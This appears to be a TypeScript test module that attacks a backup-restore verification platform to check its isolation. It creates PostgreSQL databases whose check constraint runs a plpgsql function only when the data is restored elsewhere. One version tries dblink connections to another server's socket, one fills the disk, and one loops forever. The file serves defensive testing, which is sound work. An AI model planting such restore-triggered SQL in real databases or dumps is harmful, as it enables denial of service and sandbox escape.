import { chmod, mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import pg from 'pg';
import type { Attack, Outcome } from './model.ts';
import type { Platform } from './platform.ts';
import { createTenant, type Tenant } from './tenant.ts';

/** A table whose constraint does this for each row, in any database but its home. */
const whileRestored = (home: string, deed: string) => `
  create function evil(x int) returns bool language plpgsql as $f$ begin
    if current_database() = '${home}' then return true; end if;
    ${deed}
    return true;
  end $f$;
  create table orders (x int check (evil(x))); insert into orders values (1);`;

const HUNGRY = `
  create temp table eaten (t text);
  alter table eaten alter column t set storage external;
  loop insert into eaten select repeat('x', 100000) from generate_series(1, 500); end loop;`;

/** Databases that do harm when they are restored, each in a restore test. */
export const play: Attack['play'] = async (platform) => {
  const hostile = createTenant(await platform.owner('backup'));
  return [
    await reachOut(platform, hostile),
    await fillDisk(platform, hostile),
    await neverEnd(platform, hostile),
  ];
};

/** Creates a database, runs these statements in it, and backs it up. */
async function backedUp({ source }: Platform, tenant: Tenant, name: string, statements: string) {
  const admin = new pg.Client({ connectionString: source.adminUrl });
  await admin.connect();
  await admin.query(`create database ${name}`).finally(() => admin.end());
  const home = new pg.Client({ connectionString: source.adminUrl.replace(/[^/]+$/, name) });
  await home.connect();
  await home.query(statements).finally(() => home.end());
  const datasource = await tenant.addDatasource(name, source, name);
  return { datasource, job: await tenant.backUp(datasource) };
}

/** Restored code tries the Unix socket of another server, to which everybody may connect. */
async function reachOut(platform: Platform, tenant: Tenant): Promise<Outcome> {
  const folder = await mkdtemp(path.join(tmpdir(), 'attack-'));
  let reached = 0;
  const listener = createServer((socket) => {
    reached += 1;
    socket.destroy();
  });
  const file = path.join(folder, '.s.PGSQL.5432');
  await new Promise<void>((resolve) => listener.listen(file, resolve));
  await Promise.all([chmod(folder, 0o755), chmod(file, 0o777)]);
  const at = `host=${folder} user=u password=p dbname=d connect_timeout=2`;
  const connect = `begin perform dblink_connect('c', '${at}'); exception when others then null; end;`;
  try {
    const statements = `create extension dblink; do $do$ begin ${connect} end $do$;
      ${whileRestored('reaching', connect)}`;
    const { datasource, job } = await backedUp(platform, tenant, 'reaching', statements);
    const atHome = reached;
    const { verdict } = await tenant.verdictOf(await tenant.beginTest(datasource, job));
    const away = reached - atHome;
    return {
      name: 'dumps: window',
      promise: "restored code reaches no server's socket on the machine",
      measured: `connections at its own server: ${atHome}, while it was restored: ${away} (${verdict})`,
      held: atHome > 0 && away === 0 && verdict !== 'none',
    };
  } finally {
    listener.close();
    await rm(folder, { recursive: true });
  }
}

async function fillDisk(platform: Platform, tenant: Tenant): Promise<Outcome> {
  const statements = whileRestored('hungry', HUNGRY);
  const { datasource, job } = await backedUp(platform, tenant, 'hungry', statements);
  const { verdict, reason = '' } = await tenant.verdictOf(await tenant.beginTest(datasource, job));
  const [taken = 'nothing'] = /\d+ MiB of disk/.exec(reason) ?? [];
  return {
    name: 'dumps: disk',
    promise: 'a tiny dump that writes without an end is ended at its size limit',
    measured: `${verdict}, ended when it had taken ${taken}`,
    held: verdict === 'cannot_confirm' && Number.parseInt(taken, 10) < 2_048,
  };
}

/** Must be the last: it kills the platform. */
async function neverEnd(platform: Platform, tenant: Tenant): Promise<Outcome> {
  const statements = whileRestored('endless', 'loop end loop;');
  const { datasource, job } = await backedUp(platform, tenant, 'endless', statements);
  const other = createTenant(await platform.owner('backup'));
  const calm = await backedUp(platform, other, 'calm', 'create table t as select 1 as x');
  await tenant.beginTest(datasource, job);
  const begun = performance.now();
  const { verdict } = await other.verdictOf(await other.beginTest(calm.datasource, calm.job));
  const seconds = ((performance.now() - begun) / 1_000).toFixed(1);
  const left = await platform.kill();
  return {
    name: 'dumps: endless',
    promise: "one that never ends holds up nobody else's, and dies with its worker",
    measured: `another's was ${verdict} in ${seconds} s; ${left} processes left after kill -9`,
    held: verdict === 'confirmed' && left === 0,
  };
}
